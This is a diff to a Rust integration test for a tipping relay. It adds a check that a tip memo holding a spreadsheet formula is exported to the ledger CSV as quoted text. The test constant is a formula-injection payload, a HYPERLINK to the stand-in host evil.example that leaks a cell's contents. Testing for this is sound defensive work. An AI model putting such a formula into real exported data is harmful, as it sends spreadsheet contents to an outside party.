@@ -30,6 +30,9 @@ use serde_json::Value;
 
 /// How long a page may take to show a receipt: a level, then the mirror.
 const RECEIPT: Duration = Duration::from_secs(60);
+/// A tip memo that a spreadsheet would run as a formula.
+const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
+
 /// How long a page may take to ask for a signature.
 const ASK: Duration = Duration::from_secs(20);
 
@@ -349,7 +352,7 @@ async fn the_relay_answers_in_words(stack: &Stack, w: &World) {
     let (status, built) = post(
         stack,
         "/api/v1/operations/build",
-        serde_json::json!({"signer": patron_key, "operation": {"kind": "tip", "to": address(&w.creator).to_string(), "amount": "1 tez", "memo": "through the relay"}}),
+        serde_json::json!({"signer": patron_key, "operation": {"kind": "tip", "to": address(&w.creator).to_string(), "amount": "1 tez", "memo": FORMULA}}),
     )
     .await;
     assert_eq!(status, 200, "{built}");
@@ -380,6 +383,23 @@ async fn the_relay_answers_in_words(stack: &Stack, w: &World) {
     assert_eq!(receipt["outcome"], "applied", "{receipt}");
     let (status, again) = post(stack, "/api/v1/operations/submit", signed).await;
     assert_eq!(status, 400, "a replay is refused: {again}");
+    // The memo, a spreadsheet formula, reaches the CSV as text.
+    let csv = reqwest::get(format!(
+        "{}/ledger.csv?kind=tip&account={}",
+        stack.directory_url(),
+        address(&w.patron)
+    ))
+    .await
+    .unwrap_or_else(|e| panic!("ledger.csv: {e}"))
+    .text()
+    .await
+    .unwrap_or_else(|e| panic!("ledger.csv: {e}"));
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let memos: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap_or_else(|e| panic!("{e}: {csv}"))[13].to_owned())
+        .collect();
+    assert_eq!(memos, [format!("'{FORMULA}")], "{csv}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
